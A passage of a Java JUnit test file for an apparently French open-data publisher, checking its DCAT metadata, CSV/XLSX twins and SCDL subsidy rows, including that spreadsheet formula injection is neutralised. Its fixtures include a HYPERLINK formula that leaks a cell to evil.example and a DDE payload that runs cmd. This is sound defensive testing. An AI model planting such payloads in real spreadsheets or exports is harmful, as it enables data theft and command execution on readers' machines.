package fr.vitrine.dataset;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import fr.vitrine.testing.TestProject;
import fr.vitrine.testing.TestSites;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.ReadingOptions;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.eclipse.rdf4j.model.IRI;
import org.eclipse.rdf4j.model.Literal;
import org.eclipse.rdf4j.model.Model;
import org.eclipse.rdf4j.model.Resource;
import org.eclipse.rdf4j.model.Value;
import org.eclipse.rdf4j.model.ValueFactory;
import org.eclipse.rdf4j.model.impl.SimpleValueFactory;
import org.eclipse.rdf4j.model.vocabulary.DCAT;
import org.eclipse.rdf4j.model.vocabulary.DCTERMS;
import org.eclipse.rdf4j.model.vocabulary.FOAF;
import org.eclipse.rdf4j.model.vocabulary.RDF;
import org.eclipse.rdf4j.model.vocabulary.VCARD4;
import org.eclipse.rdf4j.model.vocabulary.XSD;
import org.eclipse.rdf4j.rio.ParserConfig;
import org.eclipse.rdf4j.rio.RDFFormat;
import org.eclipse.rdf4j.rio.Rio;
import org.eclipse.rdf4j.rio.jsonld.JSONLDSettings;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.InputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.zip.ZipFile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * The open data as its real consumers read it, on one build of the bundled project with hostile titles, a negative
 * measure, a subsidy to two beneficiaries and one to a beneficiary without SIRET: udata's DCAT harvester (the exact
 * datatypes of the literals it converts, the spatial geometry it parses), a spreadsheet (every cell of every .xlsx
 * twin against its CSV, formulas never written), Validata's SCDL custom check.
 */
class OpenDataConsumersTest {

    static final String SPDX = "http://spdx.org/rdf/terms#";
    static final String GEOJSON = "https://www.iana.org/assignments/media-types/application/vnd.geo+json";
    static final ValueFactory V = SimpleValueFactory.getInstance();
    static final ObjectMapper JSON = new ObjectMapper();

    /** Titles a spreadsheet would run as formulas (OWASP's list), given to seed conventions. */
    static final Map<String, String> HOSTILE_TITLES = Map.of(
            "urbanvitaliz-avenant-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
            "urbanvitaliz-avenant-2", "@SUM(1+1)*cmd|' /C calc'!A0",
            "urbanvitaliz-fast", "+33 1 23 45 67 89 appel",
            "urbanvitaliz-france-relance", "-2+3 financement",
            "urbanvitaliz-convention-initiale", "\tTabulation en tête",
            "ecosante-delegation-dgpr-dgs", "\rRetour chariot en tête");

    /** Valid on both keys, the SIREN's and the SIRET's (a fixture). */
    static final String ANCT_SIRET = "13002603200016";
    static final String TWO_BENEFICIARIES = subsidy("cerema-subvention-deux-beneficiaires",
            "Subvention du Cerema à la DINUM et à l'ANCT (essai)", "2024-02-01",
            "dinum", "80000", "2024-03-01", "anct", "40000", "2024-04-01");
    static final String NO_BENEFICIARY_SIRET = subsidy("cerema-subvention-dgaln", "Subvention du Cerema à la DGALN (essai)",
            "2024-05-02", "dgaln", "10000", "2024-06-01");

    /** A summary longer than SCDL's 256 characters for objet. */
    static final String LONG_SUMMARY = ("Subvention du Cerema à la DGPR pour une année d'accompagnement des collectivités "
            + "dans la reconversion des friches ; ").repeat(3).strip();
    /** A funded period and no payment schedule, a long summary: conditionsVersement not given, objet cut with a warning. */
    static final String NO_SCHEDULE = "---\nid: cerema-subvention-dgpr\ntitle: Subvention du Cerema à la DGPR (essai)\n"
            + "kind: subvention\nsigned: 2024-07-01\neffective: signature\nends: 2024-12-31\nsummary: " + LONG_SUMMARY
            + "\nparties:\n  - org: cerema\n    role: attribuant\n  - org: dgpr\n    role: bénéficiaire\n"
            + "products: [urbanvitaliz]\ntotal: 30000\nfunding:\n  - from: cerema\n    to: dgpr\n    amount: 30000\n"
            + "    tax: unknown\n    credits: unknown\n    year: 2024\n    period:\n      start: 2024-07\n      end: 2024-12\n"
            + "subsidy:\n  notification_ue: false\nobligations: []\nsource:\n  text: unknown\n  pdf: unknown\n"
            + "  data_gouv: unknown\n---\nTexte d'essai.\n";
    /** The DGS's setting with a wrong SIREN key (its SIRET's Luhn sum holds): the row is skipped, saying which key. */
    static final String BAD_SIREN_KEY = "13001824700002";

    /** A subsidy record from the Cerema: per bénéficiaire, its id, the amount and the payment day. */
    static String subsidy(String id, String title, String signed, String... lines) {
        StringBuilder parties = new StringBuilder("  - org: cerema\n    role: attribuant\n");
        StringBuilder funding = new StringBuilder();
        long total = 0;
        for (int i = 0; i < lines.length; i += 3) {
            parties.append("  - org: ").append(lines[i]).append("\n    role: bénéficiaire\n");
            funding.append("  - from: cerema\n    to: ").append(lines[i]).append("\n    amount: ").append(lines[i + 1])
                    .append("\n    tax: unknown\n    credits: unknown\n    year: 2024\n    schedule:\n      - when: ")
                    .append(lines[i + 2]).append("\n        amount: ").append(lines[i + 1]).append('\n');
            total += Long.parseLong(lines[i + 1]);
        }
        return "---\nid: " + id + "\ntitle: " + title + "\nkind: subvention\nsigned: " + signed
                + "\neffective: signature\nends: 2024-12-31\nparties:\n" + parties + "products: [urbanvitaliz]\ntotal: "
                + total + "\nfunding:\n" + funding + "subsidy:\n  notification_ue: false\nobligations: []\nsource:\n"
                + "  text: unknown\n  pdf: unknown\n  data_gouv: unknown\n---\nTexte d'essai.\n";
    }

    @TempDir
    static Path shared;
    static Path donnees;
    static TestProject.Run run;

    @BeforeAll
    static void build() {
        TestProject p = TestProject.copyOfRepository(shared.resolve("project"));
        HOSTILE_TITLES.forEach((id, title) -> {
            String file = "content/conventions/" + id + ".md";
            String yaml = JSON.valueToTree(title).toString(); // a JSON string is a YAML double-quoted scalar
            String text = p.read(file).replaceFirst("(?m)^title: .*$", java.util.regex.Matcher.quoteReplacement("title: " + yaml));
            p.write(file, text);
        });
        TestSites.addSubsidy(p);
        p.write("content/conventions/cerema-subvention-deux-beneficiaires.md", TWO_BENEFICIARIES);
        p.write("content/conventions/cerema-subvention-dgaln.md", NO_BENEFICIARY_SIRET);
        p.write("content/conventions/cerema-subvention-dgpr.md", NO_SCHEDULE);
        p.write("content/conventions/cerema-subvention-dgs.md", subsidy("cerema-subvention-dgs",
                "Subvention du Cerema à la DGS (essai)", "2024-08-01", "dgs", "5000", "2024-09-01"));
        p.write("jbake.properties", p.read("jbake.properties") + "\nvitrine.siret.anct=" + ANCT_SIRET
                + "\nvitrine.siret.dgpr=" + TestSites.SIRET + "\nvitrine.siret.dgs=" + BAD_SIREN_KEY + "\n");
        String metrics = "data/stats/statistiques_impact_urbanvitaliz.csv";
        p.write(metrics, p.read(metrics) + "Cerema,UrbanVitaliz,Solde des collectivités suivies,-12.5,unité,false,usage,"
                + "autre,2023-01-31,false,,false,Essai,,,,\"@SUM(1)|cmd\"\n"
                + "Cerema,UrbanVitaliz,Solde des collectivités suivies,0,unité,true,usage,autre,2031-12-31,false,,false,"
                + "Objectif,,,,\n");
        Path site = shared.resolve("site");
        run = p.build(site);
        assertEquals(0, run.exitCode(), run.err());
        donnees = site.resolve("donnees");
    }

    // ---- udata's DCAT harvester --------------------------------------------------------------------------------

    /**
     * udata converts each literal with rdflib's {@code toPython()} and stores it in a typed field: the checksum must
     * be a plain string (an xsd:hexBinary becomes bytes and fails the harvest item), the size an integer, dates
     * xsd:date; texts plain or language-tagged strings.
     */
    @Test
    void everyLiteralUdataReadsHasTheDatatypeItExpects() throws IOException {
        for (Model m : List.of(turtle(), jsonLd())) {
            Resource ds = m.filter(null, RDF.TYPE, DCAT.DATASET).subjects().iterator().next();
            assertEquals(XSD.STRING, literal(m, ds, DCTERMS.IDENTIFIER).getDatatype());
            assertText(literal(m, ds, DCTERMS.TITLE));
            assertText(literal(m, ds, DCTERMS.DESCRIPTION));
            assertEquals(XSD.DATE, literal(m, ds, DCTERMS.MODIFIED).getDatatype());
            LocalDate.parse(literal(m, ds, DCTERMS.MODIFIED).getLabel());
            Resource period = (Resource) only(m, ds, DCTERMS.TEMPORAL);
            assertEquals(XSD.DATE, literal(m, period, DCAT.START_DATE).getDatatype());
            assertEquals(XSD.DATE, literal(m, period, DCAT.END_DATE).getDatatype());
            m.filter(ds, DCAT.KEYWORD, null).objects().forEach(k -> assertText((Literal) k));
            assertEquals(XSD.STRING, literal(m, (Resource) only(m, ds, DCAT.CONTACT_POINT), VCARD4.FN).getDatatype());
            assertEquals(XSD.STRING, literal(m, (Resource) only(m, ds, DCTERMS.PUBLISHER), FOAF.NAME).getDatatype());

            Set<Value> distributions = m.filter(ds, DCAT.HAS_DISTRIBUTION, null).objects();
            assertEquals(OpenDataTest.publishableFiles(donnees).size(), distributions.size());
            for (Value v : distributions) {
                Resource d = (Resource) v;
                String url = only(m, d, DCAT.DOWNLOAD_URL).stringValue();
                assertTrue(only(m, d, DCAT.DOWNLOAD_URL) instanceof IRI, url);
                String file = url.substring(url.lastIndexOf('/') + 1);
                assertEquals(XSD.STRING, literal(m, d, DCTERMS.IDENTIFIER).getDatatype(), file);
                assertText(literal(m, d, DCTERMS.TITLE));
                assertText(literal(m, d, DCTERMS.DESCRIPTION));
                Literal format = literal(m, d, DCTERMS.FORMAT);
                assertEquals(XSD.STRING, format.getDatatype(), file);
                assertEquals(file.substring(file.lastIndexOf('.') + 1), format.getLabel().toLowerCase(), file);
                Literal size = literal(m, d, DCAT.BYTE_SIZE);
                assertEquals(XSD.INTEGER, size.getDatatype(), file + " byteSize");
                assertEquals(Files.size(donnees.resolve(file)), Long.parseLong(size.getLabel()), file);
                Resource checksum = (Resource) only(m, d, V.createIRI(SPDX, "checksum"));
                Literal value = literal(m, checksum, V.createIRI(SPDX, "checksumValue"));
                assertEquals(XSD.STRING, value.getDatatype(), file + ": checksumValue must be a plain string");
                assertEquals(OpenDataTest.sha256(donnees.resolve(file)), value.getLabel(), file);
                assertTrue(only(m, d, DCAT.MEDIA_TYPE) instanceof IRI, file);
                Set<Value> conformsTo = m.filter(d, DCTERMS.CONFORMS_TO, null).objects();
                if (file.endsWith(".csv")) {
                    assertEquals(1, conformsTo.size(), file);
                    assertTrue(conformsTo.iterator().next() instanceof IRI, file);
                } else {
                    assertEquals(Set.of(), conformsTo, file + ": only the CSV follows the Table Schema");
                }
            }
        }
    }

    /**
     * udata's {@code spatial_from_rdf}: for each dct:spatial node, a literal typed as GeoJSON (IANA media type) or WKT
     * holding a Polygon or MultiPolygon. Ours must parse as such and cover France, overseas departments included.
     */
    @Test
    void spatialCoverageIsAGeometryUdataParses() throws IOException {
        for (Model m : List.of(turtle(), jsonLd())) {
            Resource ds = m.filter(null, RDF.TYPE, DCAT.DATASET).subjects().iterator().next();
            List<JsonNode> polygons = new ArrayList<>();
            for (Value term : m.filter(ds, DCTERMS.SPATIAL, null).objects()) {
                if (!(term instanceof Resource node)) {
                    continue;
                }
                for (Value o : m.filter(node, null, null).objects()) {
                    if (o instanceof Literal l && l.getDatatype().stringValue().equals(GEOJSON)) {
                        JsonNode geo = JSON.readTree(l.getLabel());
                        assertEquals("MultiPolygon", geo.path("type").asText());
                        geo.path("coordinates").forEach(polygons::add);
                    }
                }
            }
            assertFalse(polygons.isEmpty(), "no geometry udata reads");
            for (JsonNode polygon : polygons) {
                JsonNode ring = polygon.get(0);
                assertTrue(ring.size() >= 4, "a ring has at least 4 positions");
                assertEquals(ring.get(0), ring.get(ring.size() - 1), "a closed ring");
            }
            // Paris, Ajaccio, Pointe-à-Pitre, Fort-de-France, Cayenne, Saint-Denis (La Réunion), Mamoudzou.
            double[][] places = {{2.35, 48.86}, {8.74, 41.93}, {-61.53, 16.24}, {-61.07, 14.6}, {-52.33, 4.93},
                    {55.45, -20.88}, {45.23, -12.78}};
            for (double[] p : places) {
                assertTrue(polygons.stream().anyMatch(poly -> inBox(poly.get(0), p[0], p[1])), p[0] + "," + p[1]);
            }
            assertFalse(polygons.stream().anyMatch(poly -> inBox(poly.get(0), -0.13, 51.5)), "London is not covered");
        }
    }

    static boolean inBox(JsonNode ring, double lon, double lat) {
        double w = Double.MAX_VALUE, e = -Double.MAX_VALUE, s = Double.MAX_VALUE, n = -Double.MAX_VALUE;
        for (JsonNode pos : ring) {
            w = Math.min(w, pos.get(0).asDouble());
            e = Math.max(e, pos.get(0).asDouble());
            s = Math.min(s, pos.get(1).asDouble());
            n = Math.max(n, pos.get(1).asDouble());
        }
        return lon >= w && lon <= e && lat >= s && lat <= n;
    }

    // ---- spreadsheets ----------------------------------------------------------------------------------------------

    /** Every cell of every .xlsx twin, read back, against the CSV: same text, typed as the Table Schema says. */
    @Test
    void everyXlsxTwinHasTheCsvsCellsTyped() throws IOException {
        Map<String, JsonNode> descriptors = new TreeMap<>();
        for (JsonNode r : JSON.readTree(donnees.resolve("datapackage.json").toFile()).get("resources")) {
            descriptors.put(r.get("path").asText(), r);
        }
        int checked = 0;
        for (Path csv : OpenDataTest.csvFiles(donnees)) {
            String name = csv.getFileName().toString().replace(".csv", "");
            Path xlsx = donnees.resolve(name + ".xlsx");
            JsonNode descriptor = descriptors.get(name + ".xlsx");
            assertNotNull(descriptor, name + ".xlsx is a resource of datapackage.json");
            assertEquals("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                    descriptor.path("mediatype").asText());
            assertEquals(Files.size(xlsx), descriptor.path("bytes").asLong());
            JsonNode schema = schemaOf(descriptors.get(name + ".csv"));
            List<String[]> rows = OpenDataTest.readCsv(csv);
            try (ReadableWorkbook wb = new ReadableWorkbook(xlsx.toFile(), new ReadingOptions(true, false))) {
                List<Sheet> sheets = wb.getSheets().toList();
                assertEquals(List.of(name, "Lisez-moi"), sheets.stream().map(Sheet::getName).toList(), xlsx.toString());
                List<Row> sheet = sheets.get(0).read();
                assertEquals(rows.size(), sheet.size(), name + ": rows");
                for (int r = 0; r < rows.size(); r++) {
                    String[] line = rows.get(r);
                    Row row = sheet.get(r);
                    for (int c = 0; c < line.length; c++) {
                        String where = name + ".xlsx " + (r + 1) + ":" + (c + 1);
                        Cell cell = row.getOptionalCell(c).orElse(null);
                        String csvCell = line[c];
                        if (csvCell.isEmpty()) {
                            assertTrue(cell == null || cell.getType() == CellType.EMPTY, where + " is empty");
                            continue;
                        }
                        assertNotNull(cell, where);
                        assertFalse(cell.getType() == CellType.FORMULA, where + " is a formula");
                        JsonNode field = schema.get("fields").get(c);
                        String type = r == 0 ? "header" : field.path("type").asText();
                        // Date columns, and text columns of dates, months or years (whose schema pattern says so).
                        boolean dates = type.equals("date")
                                || field.path("constraints").path("pattern").asText().startsWith("\\d{4}(-\\d{2}");
                        checkCell(where, type, dates, field.path("name").asText(), csvCell, cell);
                        checked++;
                    }
                }
                String readme = sheets.get(1).read().stream().map(row -> row.stream().map(c -> c == null ? "" : c.getText())
                        .reduce("", (a, b) -> a + "\t" + b)).reduce("", (a, b) -> a + "\n" + b);
                assertTrue(readme.contains(Metadata.LICENCE_URL), name + ": licence in Lisez-moi");
                assertTrue(readme.contains("http://localhost:8000/donnees/"), name + ": source in Lisez-moi");
                for (JsonNode f : schema.get("fields")) {
                    assertTrue(readme.contains("\n\t" + f.get("name").asText() + "\t"), name + ": column " + f.get("name"));
                }
            }
            try (ZipFile zip = new ZipFile(xlsx.toFile())) {
                String xml = new String(zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
                        StandardCharsets.UTF_8);
                assertTrue(xml.matches("(?s).*<pane [^>]*ySplit=\"1\"[^>]*state=\"frozen\".*"), name + ": header row frozen");
                assertFalse(xml.contains("<f>") || xml.contains("<f "), name + ": no formula anywhere");
            }
        }
        assertTrue(checked > 500, "only " + checked + " cells checked");
    }

    private static void checkCell(String where, String type, boolean dates, String column, String csvCell, Cell cell) {
        // SCDL's notificationUE is a boolean written oui/non: text, like the CSV.
        switch (type.equals("boolean") && !csvCell.matches("true|false") ? "string" : type) {
            case "number", "integer" -> {
                assertEquals(CellType.NUMBER, cell.getType(), where + " is a number");
                assertEquals(0, new BigDecimal(csvCell).compareTo(cell.asNumber()), where + ": " + csvCell);
                boolean euros = cell.getDataFormatString() != null && cell.getDataFormatString().contains("€");
                assertEquals(column.startsWith("montant"), euros, where + " euro format: " + cell.getDataFormatString());
            }
            case "boolean" -> {
                assertEquals(CellType.BOOLEAN, cell.getType(), where);
                assertEquals(Boolean.valueOf(csvCell), cell.asBoolean(), where);
            }
            default -> {
                if (!type.equals("header") && dates && csvCell.matches("\\d{4}-\\d{2}-\\d{2}")) {
                    // Full dates are dates, whether the column is a date or a partial-date text column; a code
                    // that looks like a date (domaine fonctionnel 0181-01-02) stays text.
                    assertEquals(CellType.NUMBER, cell.getType(), where + " is a date");
                    assertEquals(LocalDate.parse(csvCell), cell.asDate().toLocalDate(), where);
                    assertTrue(cell.getDataFormatString().contains("yy"), where + " date format");
                } else {
                    assertEquals(CellType.STRING, cell.getType(), where + " is text: " + csvCell);
                    String expected = csvCell.startsWith("'") && Formulas.risky(csvCell.substring(1))
                            ? csvCell.substring(1) : csvCell;
                    assertEquals(expected, cell.asString().replace("\r\n", "\n").replace('\r', '\n'), where);
                }
            }
        }
    }

    /** Codes keep their leading zeros and partial dates stay text (what French Excel breaks in a CSV). */
    @Test
    void codesAndPartialDatesAreText() throws IOException {
        Map<String, Cell> programme = new TreeMap<>();
        List<String> partial = new ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(donnees.resolve("lignes-financement.xlsx").toFile())) {
            List<Row> rows = wb.getFirstSheet().read();
            List<String> header = rows.get(0).stream().map(Cell::getText).toList();
            for (Row row : rows.subList(1, rows.size())) {
                row.getOptionalCell(header.indexOf("programme")).ifPresent(c -> programme.put(c.getText(), c));
                row.getOptionalCell(header.indexOf("periode_debut")).filter(c -> c.getType() == CellType.STRING)
                        .ifPresent(c -> partial.add(c.getText()));
            }
        }
        assertEquals(CellType.STRING, programme.get("0181").getType(), "programme 0181 with its zero, as text");
        assertTrue(partial.stream().anyMatch(s -> s.matches("\\d{4}-\\d{2}")), "a month stays text: " + partial);
    }

    // ---- formula injection ----------------------------------------------------------------------------------------

    @Test
    void hostileTitlesAreNeutralisedInCsvAndTextInXlsxAndNumbersStayNumbers() throws IOException {
        JsonNode json = JSON.readTree(donnees.resolve("conventions.json").toFile());
        Map<String, String> jsonTitles = new TreeMap<>();
        json.forEach(r -> jsonTitles.put(r.get("id").asText(), r.get("titre").asText()));
        Map<String, String> csvTitles = new TreeMap<>();
        List<String[]> rows = OpenDataTest.readCsv(donnees.resolve("conventions.csv"));
        for (String[] r : rows.subList(1, rows.size())) {
            csvTitles.put(r[0], r[1]);
        }
        Map<String, String> xlsxTitles = new TreeMap<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(donnees.resolve("conventions.xlsx").toFile())) {
            for (Row r : wb.getFirstSheet().read().subList(1, rows.size())) {
                assertEquals(CellType.STRING, r.getCell(1).getType(), "title as a text cell");
                xlsxTitles.put(r.getCell(0).getText(), r.getCell(1).asString());
            }
        }
        HOSTILE_TITLES.forEach((id, title) -> {
            String kept = jsonTitles.get(id); // as validation left it (it may trim blanks)
            assertNotNull(kept, id);
            if (Formulas.risky(kept)) {
                assertEquals("'" + kept, csvTitles.get(id), id + ": quoted in the CSV");
            } else {
                assertEquals(kept, csvTitles.get(id), id);
            }
            assertEquals(kept, xlsxTitles.get(id), id + ": exact text in the XLSX");
        });
        for (String id : List.of("urbanvitaliz-avenant-1", "urbanvitaliz-avenant-2", "urbanvitaliz-fast",
                "urbanvitaliz-france-relance")) {
            assertEquals(HOSTILE_TITLES.get(id), jsonTitles.get(id), id + ": the JSON keeps the exact title");
        }
        // No text cell of any CSV starts with a formula character.
        for (Path csv : OpenDataTest.csvFiles(donnees)) {
            for (String[] r : OpenDataTest.readCsv(csv)) {
                for (String cell : r) {
                    assertFalse(Formulas.risky(cell) && !cell.matches("-\\d+(\\.\\d+)?"), csv.getFileName() + ": " + cell);
                }
            }
        }
        // A negative measure stays a number; its comment starting with @ is neutralised.
        List<String[]> indicators = OpenDataTest.readCsv(donnees.resolve("indicateurs.csv"));
        String[] header = indicators.get(0);
        int valeur = List.of(header).indexOf("valeur");
        int comment = List.of(header).indexOf("commentaires");
        String[] negative = indicators.stream().filter(r -> r[valeur].equals("-12.5")).findFirst()
                .orElseThrow(() -> new AssertionError("no -12.5 in indicateurs.csv"));
        assertEquals("'@SUM(1)|cmd", negative[comment]);
        try (ReadableWorkbook wb = new ReadableWorkbook(donnees.resolve("indicateurs.xlsx").toFile())) {
            Row row = wb.getFirstSheet().read().stream().filter(r -> r.getOptionalCell(comment)
                    .map(c -> c.getText().equals("@SUM(1)|cmd")).orElse(false)).findFirst().orElseThrow();
            assertEquals(CellType.NUMBER, row.getCell(valeur).getType());
            assertEquals(0, new BigDecimal("-12.5").compareTo(row.getCell(valeur).asNumber()));
            assertEquals(CellType.STRING, row.getCell(comment).getType());
        }
        // The same in the product's /stats download.
        Path stats = donnees.resolveSibling("produits/urbanvitaliz/stats/urbanvitaliz-statistiques-impact.csv");
        assertTrue(OpenDataTest.readCsv(stats).stream().anyMatch(r -> r[valeur].equals("-12.5")
                && r[comment].equals("'@SUM(1)|cmd")), stats.toString());
        // The rule is in the Table Schemas' descriptions of text columns.
        JsonNode schema = JSON.readTree(donnees.resolve("conventions.schema.json").toFile());
        for (JsonNode f : schema.get("fields")) {
            assertEquals(f.get("type").asText().equals("string"), f.get("description").asText().contains(Formulas.RULE),
                    f.get("name").asText());
        }
    }

    /**
     * Validation trims the blanks around titles, so a tab or a CR never starts one in a build: the writer is given
     * them directly, with a negative amount, and its three files are read back.
     */
    @Test
    void leadingTabAndCarriageReturnAreNeutralisedByTheWriter(@TempDir Path dir) throws IOException {
        Table t = new Table("essai", "Essai", "Cellules hostiles.", List.of(Table.Field.of("texte", "string", "Texte", "Un texte."),
                Table.Field.of("montant", "number", "Montant", "Un montant.")), List.of(), List.of(), null, null);
        List<String> texts = List.of("\tTabulation", "\rRetour chariot", "=1+1", "+1", "-1", "@A1", "Sans danger", "'Déjà cité");
        Metadata meta = new Metadata("n", "Titre", "Description.", List.of("k"), "Producteur", "https://exemple.fr/",
                "https://exemple.fr/", "https://exemple.fr/donnees/", "irregular", null, null, LocalDate.of(2025, 1, 1));
        try (DatasetWriter w = new DatasetWriter(t, dir, meta)) {
            texts.forEach(text -> w.row(new Object[] {text, new BigDecimal("-5.5")}));
        }
        List<String[]> csv = OpenDataTest.readCsv(dir.resolve("essai.csv"));
        assertEquals(texts.size() + 1, OpenDataTest.rfc4180(Files.readString(dir.resolve("essai.csv")), "essai.csv").size());
        JsonNode json = JSON.readTree(dir.resolve("essai.json").toFile());
        try (ReadableWorkbook wb = new ReadableWorkbook(dir.resolve("essai.xlsx").toFile())) {
            List<Row> rows = wb.getFirstSheet().read();
            for (int i = 0; i < texts.size(); i++) {
                String text = texts.get(i);
                boolean risky = i < 6;
                // Line breaks are LF in the CSV (a lone CR would end the record for most readers).
                assertEquals((risky ? "'" + text : text).replace('\r', '\n'), csv.get(i + 1)[0], "CSV: " + text);
                assertEquals("-5.5", csv.get(i + 1)[1], "a negative amount is not quoted");
                assertEquals(text, json.get(i).get("texte").asText(), "JSON: " + text);
                assertEquals(CellType.STRING, rows.get(i + 1).getCell(0).getType());
                assertEquals(text, rows.get(i + 1).getCell(0).asString(), "XLSX: " + text);
                assertEquals(CellType.NUMBER, rows.get(i + 1).getCell(1).getType());
                assertEquals(0, new BigDecimal("-5.5").compareTo(rows.get(i + 1).getCell(1).asNumber()));
            }
        }
    }

    @Test
    void theSpreadsheetHasEveryRowInOrderWhenItsThreadWritesThemInBatches(@TempDir Path dir) throws IOException {
        Table t = new Table("lots", "Lots", "Plusieurs lots de lignes.", List.of(Table.Field.of("rang", "integer", "Rang",
                "Le rang."), Table.Field.of("texte", "string", "Texte", "Un texte.")), List.of(), List.of(), null, null);
        Metadata meta = new Metadata("n", "Titre", "Description.", List.of("k"), "Producteur", "https://exemple.fr/",
                "https://exemple.fr/", "https://exemple.fr/donnees/", "irregular", null, null, LocalDate.of(2025, 1, 1));
        int rows = 2 * 1024 + 7; // two whole batches and a last, partial one
        try (DatasetWriter w = new DatasetWriter(t, dir, meta)) {
            for (int i = 0; i < rows; i++) {
                w.row(new Object[] {i, "ligne " + i});
            }
        }
        try (ReadableWorkbook wb = new ReadableWorkbook(dir.resolve("lots.xlsx").toFile())) {
            List<Row> read = wb.getFirstSheet().read();
            assertEquals(rows + 1, read.size(), "header and every row");
            for (int i = 0; i < rows; i++) {
                assertEquals(i, read.get(i + 1).getCell(0).asNumber().intValue());
                assertEquals("ligne " + i, read.get(i + 1).getCell(1).asString());
            }
        }
    }

    // ---- SCDL subventions ------------------------------------------------------------------------------------------

    @Test
    void scdlRowsSayTheTotalAndEachBeneficiarysShareAndNeedABeneficiaryId() throws IOException {
        List<String[]> rows = OpenDataTest.readCsv(donnees.resolve("subventions.csv"));
        List<String> header = List.of(rows.get(0));
        List<Map<String, String>> two = new ArrayList<>();
        for (String[] r : rows.subList(1, rows.size())) {
            Map<String, String> m = new TreeMap<>();
            for (int i = 0; i < r.length; i++) {
                m.put(header.get(i), r[i]);
            }
            // Validata's custom check one-of-required(idBeneficiaire, rnaBeneficiaire).
            assertFalse(m.get("idBeneficiaire").isEmpty() && m.get("rnaBeneficiaire").isEmpty(), m.toString());
            assertFalse(m.get("nomBeneficiaire").contains("aménagement, du logement"), "the DGALN has no SIRET: " + m);
            if (m.get("dateConvention").equals("2024-02-01")) {
                two.add(m);
            }
        }
        assertEquals(2, two.size(), "one row per beneficiary: " + two);
        BigDecimal sum = BigDecimal.ZERO;
        Map<String, BigDecimal> lines = Map.of(TestSites.BENEFICIARY_SIRET, new BigDecimal("80000"), ANCT_SIRET,
                new BigDecimal("40000"));
        for (Map<String, String> m : two) {
            assertEquals("120000", m.get("montant"), "montant is the total granted before the split");
            BigDecimal share = new BigDecimal(m.get("pourcentageSubvention"));
            sum = sum.add(share);
            BigDecimal part = new BigDecimal(m.get("montant")).multiply(share);
            assertTrue(part.subtract(lines.get(m.get("idBeneficiaire"))).abs().compareTo(new BigDecimal("10")) < 0,
                    m.get("idBeneficiaire") + ": share " + share + " of 120000 is not its line");
        }
        assertEquals(0, BigDecimal.ONE.compareTo(sum), "the shares add up to 1: " + sum);
        // The row left out is named, with the setting to add.
        List<String> warnings = run.diagnostics().stream().filter(d -> d.contains(": warning: ")
                && d.contains("'dgaln'") && d.contains("vitrine.siret.dgaln=")).toList();
        assertEquals(1, warnings.size(), run.err());
        assertTrue(warnings.get(0).startsWith("jbake.properties:") || warnings.get(0).contains("jbake.properties"),
                warnings.get(0));
    }

    /**
     * One rule for the temporal coverage, in {@code build} as in {@code stats}: every impact row published, targets
     * included (a target dated 2031 is in indicateurs.csv, so in the coverage).
     */
    @Test
    void theTemporalCoverageHoldsTheTargetsTheDataPublishes() throws IOException {
        JsonNode coverage = JSON.readTree(donnees.resolve("udata.json").toFile()).path("dataset").path("temporal_coverage");
        assertEquals("2031-12-31", coverage.path("end").asText(), coverage.toString());
        assertTrue(Files.readString(donnees.resolve("indicateurs.csv")).contains(",2031-12-31,"));
    }

    /** organisations.csv gives the SIRETs subventions.csv publishes for the same organisations. */
    @Test
    void organisationsHaveTheSiretsTheSubsidiesPublish() throws IOException {
        List<String[]> orgs = OpenDataTest.readCsv(donnees.resolve("organisations.csv"));
        int name = List.of(orgs.get(0)).indexOf("nom");
        int siret = List.of(orgs.get(0)).indexOf("siret");
        Map<String, String> byName = new TreeMap<>();
        orgs.subList(1, orgs.size()).forEach(r -> byName.put(r[name], r[siret]));
        List<String[]> subsidies = OpenDataTest.readCsv(donnees.resolve("subventions.csv"));
        List<String> header = List.of(subsidies.get(0));
        int checked = 0;
        for (String[] r : subsidies.subList(1, subsidies.size())) {
            assertEquals(r[header.indexOf("idAttribuant")], byName.get(r[header.indexOf("nomAttribuant")]), r[0]);
            assertEquals(r[header.indexOf("idBeneficiaire")], byName.get(r[header.indexOf("nomBeneficiaire")]), r[4]);
            checked++;
        }
        assertTrue(checked >= 3, "rows checked: " + checked);
    }

    /** Each description says what the column holds: montant_recense includes the FAST awards of product files. */
    @Test
    void montantRecenseSaysItIncludesFastMoney() throws IOException {
        JsonNode schema = JSON.readTree(donnees.resolve("produits.schema.json").toFile());
        for (JsonNode f : schema.path("fields")) {
            if (f.path("name").asText().equals("montant_recense")) {
                assertTrue(f.path("description").asText().contains("FAST"), f.toString());
                return;
            }
        }
        fail("no montant_recense in produits.schema.json");
    }

    /**
     * Unknown stays unknown: without a payment schedule, conditionsVersement is not « unique » but says it is not
     * given (SCDL 2.1.1 requires the cell; its free-text « autre » case describes the terms).
     */
    @Test
    void withoutAScheduleTheConditionsOfPaymentSayTheyAreUnknown() throws IOException {
        Map<String, String> dgpr = scdlRow("2024-07-01");
        assertEquals("non précisées par la convention", dgpr.get("conditionsVersement"), dgpr.toString());
        assertEquals("2024-07-01/2024-12-31", dgpr.get("datesPeriodeVersement"), "the funded period");
        assertEquals("unique", scdlRow("2024-02-01").get("conditionsVersement"), "one payment: unique");
    }

    /** objet longer than SCDL's 256 characters: cut, ending with « … », and a warning names the convention. */
    @Test
